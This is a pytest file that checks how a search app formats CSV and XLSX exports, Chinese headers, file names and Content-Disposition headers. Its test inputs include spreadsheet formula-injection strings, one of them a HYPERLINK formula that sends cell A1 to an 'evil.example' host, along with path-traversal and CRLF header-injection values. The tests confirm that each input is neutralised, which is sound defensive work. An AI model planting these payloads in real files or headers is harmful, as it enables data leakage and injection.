"""How exports write cells, headers and file names (search_app/export_format.py), and a workbook read back."""

from __future__ import annotations

import io
import re
from datetime import date
from urllib.parse import unquote

import openpyxl
import pytest
from werkzeug.http import parse_options_header

from search_app.export import as_csv
from search_app.export_format import (
    content_disposition,
    csv_cell,
    file_name,
    header,
    kind_name,
    name_part,
    number_text,
    percent_text,
)
from search_app.export_xlsx import as_xlsx

DAY = date(2026, 12, 1)


@pytest.mark.parametrize("value, expected", [
    (406.0, "406"),
    (406, "406"),
    (17.92, "17.92"),
    (179200.0, "179200"),
    (5.4, "5.4"),
    (0.1 + 0.2, "0.3"),
    (1 / 3, "0.3333"),
    (-2.2, "-2.2"),
    (-0.00001, "0"),
    (0.0, "0"),
    (2021, "2021"),
])
def test_number_text(value, expected):
    assert number_text(value) == expected


@pytest.mark.parametrize("ratio, expected", [
    (0.125, "12.5%"),
    (0.1111, "11.1%"),
    (-0.1517, "-15.2%"),
    (0.0007, "0.1%"),
    (1, "100%"),
    (2.0, "200%"),
    (0.0, "0%"),
])
def test_percent_text(ratio, expected):
    assert percent_text(ratio) == expected


@pytest.mark.parametrize("value, column, expected", [
    (None, "value", ""),
    (406.0, "value", "406"),
    (-3.0, "change", "-3"),  # a number is no formula: no apostrophe
    (0.1405, "change_ratio", "14.1%"),  # as the page shows it (+14.1%)
    (-0.1517, "change_ratio", "-15.2%"),
    (0.0328, "score", "0.0328"),
    (2021, "year", "2021"),
    ("=HYPERLINK(\"http://x\")", "title", "'=HYPERLINK(\"http://x\")"),
    ("-1+1", "text", "'-1+1"),
    ("@SUM(A1)", "text", "'@SUM(A1)"),
    ("\t制表", "text", "'\t制表"),
    ("行政复议", "text", "行政复议"),
    ("keyword,semantic", "matched", "关键词、语义"),
    ("semantic", "matched", "语义"),
    ("", "matched", ""),
    ("keyword,semantic", "text", "keyword,semantic"),  # only the coded column is translated
    (True, "text", "True"),  # a bool is text, not the figure 1
])
def test_csv_cell(value, column, expected):
    assert csv_cell(value, column) == expected


@pytest.mark.parametrize("kind, column, expected", [
    ("search", "region", "地区"),
    ("search", "year", "年份"),
    ("search", "doc_type", "文种"),
    ("search", "title", "标题"),
    ("search", "section", "章节"),
    ("search", "text", "原文"),
    ("figures", "text", "原文写法"),  # a figure's text is the value as written, not the passage
    ("figures", "change_ratio", "变化率"),
    ("series", "year", "报告年份"),
    ("series", "period", "期间"),
    ("matrix", "地区", "地区"),  # a matrix names its columns itself
    ("grid-matrix", "2021", "2021"),
])
def test_header(kind, column, expected):
    assert header(kind, column) == expected


@pytest.mark.parametrize("kind, expected", [
    ("search", "检索结果"), ("figures", "数字对比"), ("grid", "地区年份明细"), ("grid-matrix", "地区年份"),
    ("series", "指标明细"), ("matrix", "指标矩阵"),
])
def test_every_kind_has_a_chinese_name(kind, expected):
    assert kind_name(kind) == expected


@pytest.mark.parametrize("query, expected", [
    ("行政复议", "行政复议"),
    ("行政复议 办案数", "行政复议_办案数"),
    ("  行政复议\u3000办案数  ", "行政复议_办案数"),
    ("../../etc/passwd", "etc_passwd"),
    ("..\\..\\windows\\system32", "windows_system32"),
    ('a"b\r\nContent-Type: text/html', "a_b_Content-Type_text_html"),
    ("\"行政执法\" year:2021", "行政执法_year_2021"),
    ("普法 -疫情", "普法_-疫情"),
    ("a*b?c<d>e|f", "a_b_c_d_e_f"),
    ("零宽\u200b字符\x00", "零宽_字符"),
    ("///", ""),
    ("", ""),
    ("复" * 500, "复" * 40),
    ("a" * 39 + " b", "a" * 39),  # cut, then no trailing separator
])
def test_name_part(query, expected):
    assert name_part(query) == expected


@pytest.mark.parametrize("query, kind, fmt, expected", [
    ("行政复议", "figures", "csv", "行政复议_数字对比_2026-12-01.csv"),
    ("行政复议", "grid-matrix", "xlsx", "行政复议_地区年份_2026-12-01.xlsx"),
    ("12345热线", "matrix", "csv", "12345热线_指标矩阵_2026-12-01.csv"),
    ("", "series", "json", "指标明细_2026-12-01.json"),
    ("/\"\n", "search", "csv", "检索结果_2026-12-01.csv"),
])
def test_file_name(query, kind, fmt, expected):
    assert file_name(query, kind, fmt, DAY) == expected


@pytest.mark.parametrize("query", ["行政复议", "a/b\\c", 'x"; filename="evil.exe', "换\r\n行", "复" * 500, "100%"])
def test_content_disposition_reads_back(query):
    value = content_disposition(query, "figures", "csv", DAY)
    assert value.isascii() and "\r" not in value and "\n" not in value
    star = re.search(r"filename\*=UTF-8''([^;\s]+)$", value)
    assert star and unquote(star.group(1)) == file_name(query, "figures", "csv", DAY)
    assert re.search(r'filename="figures_2026-12-01\.csv";', value)
    kind, options = parse_options_header(value)  # Werkzeug's reader (filename* first, as browsers do) agrees
    assert (kind, options) == ("attachment", {"filename": file_name(query, "figures", "csv", DAY)})
    assert not re.search(r'[\\/"\r\n]', options["filename"])


def test_csv_header_row_is_chinese():
    row = {"region": "云溪市", "year": 2021, "value": 138.0, "change": 17.0, "change_ratio": 0.1405}
    body = as_csv("figures", [row])
    head, row = body.lstrip("\ufeff").split("\r\n")[:2]
    assert head == "地区,年份,统计项,数值,数值上限,单位,较上年变化,变化率,原文写法,原句,标题,链接"
    assert row == "云溪市,2021,,138,,,17,14.1%,,,,"


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"云溪市2021年报告")'


def test_a_workbook_holds_numbers_as_numbers_and_text_as_text():
    rows = [{"region": "云溪市", "year": 2021, "label": "受理", "value": 138.0, "unit": "件", "change": -2.2,
             "change_ratio": 0.1405, "title": FORMULA, "sentence": "@SUM(1+1) 受理138件"},
            {"region": "南屏县", "year": 2022, "label": "办结率", "value": 99.12, "unit": "%"}]
    book = openpyxl.load_workbook(io.BytesIO(as_xlsx("figures", rows, ["region", "year", "label", "value", "unit",
                                                                       "change", "change_ratio", "title",
                                                                       "sentence"])))
    sheet = book.active
    assert sheet.title == "数字对比"
    table = [[c.value for c in r] for r in sheet.iter_rows()]
    assert table[0] == ["地区", "年份", "统计项", "数值", "单位", "较上年变化", "变化率", "标题", "原句"]
    assert table[1][:7] == ["云溪市", 2021, "受理", 138, "件", -2.2, 0.1405]
    assert type(table[1][3]) is int and type(table[1][1]) is int  # 138, not 138.0
    assert table[2] == ["南屏县", 2022, "办结率", 99.12, "%", None, None, None, None]
    assert sheet.cell(2, 7).number_format == "0.0%"
    title, sentence = sheet.cell(2, 8), sheet.cell(2, 9)
    assert (title.value, title.data_type) == (FORMULA, "s") and title.quotePrefix  # text, shown and kept as text
    assert (sentence.value, sentence.data_type) == ("@SUM(1+1) 受理138件", "s")
    assert not [c for r in sheet.iter_rows() for c in r if c.data_type == "f"]
